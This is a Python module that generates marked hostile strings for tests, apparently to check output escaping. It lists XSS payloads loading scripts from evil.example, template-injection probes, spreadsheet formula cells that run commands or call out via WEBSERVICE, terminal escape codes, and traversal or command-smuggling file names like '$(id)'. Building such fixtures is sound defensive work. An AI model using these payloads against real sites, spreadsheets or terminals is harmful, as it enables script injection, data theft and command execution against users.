"""
Hostile text, to be carried from a page to wherever it might be shown.

Each list is deterministic, so that a failure can be found again. ``MARK`` is in
every one, so that a test can tell whether it arrived.
"""

from __future__ import annotations

from itertools import product

MARK = "zq7mark"

_RUN = f"alert('{MARK}')"
_SHAPES = (
    "<script>{run}</script>",
    "<ScRiPt >{run}</sCrIpT>",
    "<script src=https://evil.example/{mark}.js></script>",
    "<script\x00>{run}</script>",
    "<img src=x onerror={run}>",
    "<img src=https://evil.example/{mark}.png>",
    "<svg onload={run}>",
    "<svg><script>{run}</script></svg>",
    "<svg><animate onbegin={run} attributeName=x>",
    "<math><mi xlink:href='javascript:{run}'>x</mi></math>",
    "<body onload={run}>",
    "<iframe src=javascript:{run}>",
    "<iframe srcdoc='<script>{run}</script>'>",
    "<object data=https://evil.example/{mark}>",
    "<embed src=https://evil.example/{mark}>",
    "<link rel=stylesheet href=https://evil.example/{mark}.css>",
    "<style>@import 'https://evil.example/{mark}.css';</style>",
    "<style>*{{background:url(https://evil.example/{mark})}}</style>",
    "<div style='background:url(https://evil.example/{mark})'>x</div>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/{mark}'>",
    "<base href=https://evil.example/{mark}/>",
    "<form action=https://evil.example/{mark}><input autofocus onfocus={run}></form>",
    "<a href=javascript:{run}>{mark}</a>",
    "<a href='jav&#x09;ascript:{run}'>{mark}</a>",
    "<a href=data:text/html,<script>{run}</script>>{mark}</a>",
    "<a href=vbscript:{run}>{mark}</a>",
    "<video src=https://evil.example/{mark}><source onerror={run}></video>",
    "<audio src=https://evil.example/{mark} autoplay>",
    "<details open ontoggle={run}>x",
    "<marquee onstart={run}>x</marquee>",
    "<template><script>{run}</script></template>",
    "<noscript><p title='</noscript><img src=x onerror={run}>'>",
    "<textarea></textarea><script>{run}</script>",
    "<title></title><script>{run}</script>",
    "<!--><script>{run}</script>-->",
    "<![CDATA[><script>{run}</script>]]>",
    "<?xml version='1.0'?><script>{run}</script>",
    "&lt;script&gt;{run}&lt;/script&gt;",
    "&#60;script&#62;{run}&#60;/script&#62;",
    "<select autofocus onfocus={run}>",
    "＜script＞{run}＜/script＞",
    "+ADw-script+AD4-{run}+ADw-/script+AD4-",
    "<image href=https://evil.example/{mark} />",
    "<input type=image src=https://evil.example/{mark}>",
    "<table background=https://evil.example/{mark}><tr><td>x</table>",
    "<x contenteditable onblur={run}>x</x>",
    "{{{{7*7}}}}{mark}",
    "{{% for x in ().__class__.__base__.__subclasses__() %}}{mark}{{% endfor %}}",
    "${{7*7}}{mark}",
    "<%= 7*7 %>{mark}",
)
_PLACES = (
    "{0}",
    '"{0}',
    "'{0}",
    '">{0}',
    "'>{0}",
    "</title>{0}",
    "</script>{0}",
    "-->{0}",
    "]]>{0}",
    "\n\n{0}",
)


def xss() -> list[str]:
    """Return 500 attempts to make a browser run or load something."""
    return [
        place.format(shape.format(run=_RUN, mark=MARK))
        for shape, place in product(_SHAPES, _PLACES)
    ]


def formulas() -> list[str]:
    """Return 60 cells that a spreadsheet would run."""
    starts = ("=", "+", "-", "@", "\t=", "\r=", "\n=", " =", "＝", "＋", "－", "＠")
    bodies = (
        f"cmd|' /C calc'!A0{MARK}",
        f'HYPERLINK("https://evil.example/{MARK}","x")',
        f'WEBSERVICE("https://evil.example/{MARK}")',
        f"SUM(1+1)*{MARK}",
        f"1+1&{MARK}",
    )
    return [start + body for start, body in product(starts, bodies)]


def terminal() -> list[str]:
    """Return codes that a terminal would act on, and text that hides or turns around."""
    codes = (
        "\x1b[2J",
        "\x1b[31m",
        "\x1b]0;owned\x07",
        "\x1b]8;;https://evil.example\x1b\\",
        "\x1b]52;c;ZXZpbA==\x07",
        "\x1b[6n",
        "\x1bP+q544e\x1b\\",
        "\x9b31m",
        "\x9d0;x\x9c",
        "\x07",
        "\x08\x08\x08",
        "\r",
        "\x0b",
        "\x0c",
        "\x00",
        "\x7f",
        "\x85",
        "\u202e",
        "\u2066",
        "\u200b",
        "\u200d",
        "\ufeff",
        "\u00ad",
        "\u2028",
        "\u2029",
        "\ue000",
        "\ud800",
        "\U000e0041",
        "\U000f0000",
        "[/nope]",
        "[bold]",
        "[link=https://evil.example]",
        ":smile:",
    )
    return [f"{code}{MARK}{code}" for code in codes]


def file_names() -> list[str]:
    """Return names that a careless program would write where it should not."""
    names = [
        "../../etc/passwd",
        "..\\..\\windows\\win.ini",
        "/etc/passwd",
        "C:\\x",
        "CON",
        "NUL.txt",
        "aux.html",
        "a\x00b",
        "\u202egnp.exe",
        "x" * 300,
        "-rf",
        "--help",
        ".",
        "..",
        "",
        " ",
        "a\nb",
        "\x1b[31mred",
        "~root",
        "$(id)",
        "`id`",
        "file:///x",
        "\\\\host\\share",
        "a:b",
        "a.html.",
        "é" * 200,
        "\ud800",
    ]
    return [f"{name}{suffix}" for name, suffix in product(names, ("", ".html", f"-{MARK}"))]
